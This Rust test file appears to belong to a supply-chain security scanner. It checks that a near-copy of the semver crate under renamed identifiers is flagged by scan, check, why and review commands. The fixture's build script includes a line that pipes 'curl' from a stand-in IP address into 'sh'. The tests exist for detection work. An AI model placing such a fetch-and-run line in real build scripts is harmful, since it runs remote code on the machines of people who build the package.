//! A package that is nearly a copy of a better-known one: what is said of it, and what is left of it beside the original.

use std::path::{Path, PathBuf};
use std::process::Command;

use fence_testkit::publishing::release;
use insta::assert_snapshot;

use crate::project::Project;
use crate::standing::Standing;

const MANIFEST: &str =
    "[package]\nname = \"edition\"\nversion = \"1.0.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n";
const FETCHES: &str = "let _ = std::process::Command::new(\"sh\").args([\"-c\", \"curl -s http://192.0.2.1/x | sh\"]).status();";

/// The code of semver, which this program is built with, from where cargo unpacked it.
fn original() -> Vec<(String, String)> {
    let mut cargo = Command::new(env!("CARGO"));
    cargo.args(["metadata", "--format-version=1", "--offline", "--locked"]);
    let said = cargo.current_dir(Path::new(env!("CARGO_MANIFEST_DIR"))).output().unwrap();
    let said: serde_json::Value = serde_json::from_slice(&said.stdout).unwrap();
    let packages = said["packages"].as_array().unwrap();
    let semver = packages.iter().find(|package| package["name"] == "semver").unwrap();
    let folder = Path::new(semver["manifest_path"].as_str().unwrap()).parent().unwrap().join("src");
    let mut files: Vec<PathBuf> =
        std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    let text = |file: PathBuf| {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        (format!("src/{name}"), std::fs::read_to_string(&file).unwrap())
    };
    files.into_iter().map(text).collect()
}

/// What is the original's own changes with each of its releases: versions and shares are not part of what is expected.
fn steady(seen: &impl ToString) -> String {
    let seen = seen.to_string();
    let version = |word: &str| word.starts_with(|first: char| first.is_ascii_digit());
    let mut words: Vec<String> = Vec::new();
    for word in seen.split(' ') {
        let before = words.last().map_or("", String::as_str);
        let word = match word {
            "%" if version(before) => {
                words.pop();
                "N %".to_owned()
            }
            word if before.ends_with("semver") && version(word) => {
                format!("V{}", word.trim_start_matches(|one: char| one.is_ascii_digit() || one == '.'))
            }
            word => word.to_owned(),
        };
        words.push(word);
    }
    let seen = words.join(" ");
    match seen.split_once("semver@") {
        Some((before, after)) => {
            let after = after.trim_start_matches(|one: char| one.is_ascii_digit() || one == '.');
            format!("{before}semver@V{after}")
        }
        None => seen,
    }
}

#[test]
fn a_copy_under_other_names_is_told_by_a_scan() {
    let mut project = Project::at("2026-08-22T12:00:00Z", &[]);
    project.write("edition/Cargo.toml", MANIFEST);
    project.write("edition/build.rs", format!("fn main() {{\n    {FETCHES}\n}}\n"));
    for (path, text) in original() {
        let renamed = text.replace("Version", "Edition").replace("identifier", "mark");
        project.write(&format!("edition/{path}"), renamed);
    }
    assert_snapshot!("a scan", steady(&project.run("scan edition --offline --least high")));
}

#[test]
fn a_copy_that_comes_in_asks_for_a_reviewer() {
    let standing = Standing::behind_a_mirror("edition = \"1\"");
    let with_code = |name: &str, version: &str| {
        let files = original();
        files.iter().fold(release(name, version), |release, (path, text)| release.file(path, text))
    };
    standing.registry.publish(with_code("semver", "1.0.20").at("2026-01-01T12:00:00Z"));
    let copy = with_code("edition", "1.0.0").build_script(FETCHES);
    standing.registry.publish(copy.at("2026-08-15T12:00:00Z"));
    standing.cargo.run(["generate-lockfile"]);
    let now = "--now 2026-08-25T12:00:00Z";
    assert_snapshot!("a check", steady(&standing.run(&format!("check {now}"))));
    assert_snapshot!("why", steady(&standing.run(&format!("why edition {now}"))));
    // Beside the original only what was put in is left to read.
    let beside = standing.run(&format!("review edition --from semver@1.0.20 --least high {now}"));
    assert_snapshot!("beside the original", steady(&beside));
}
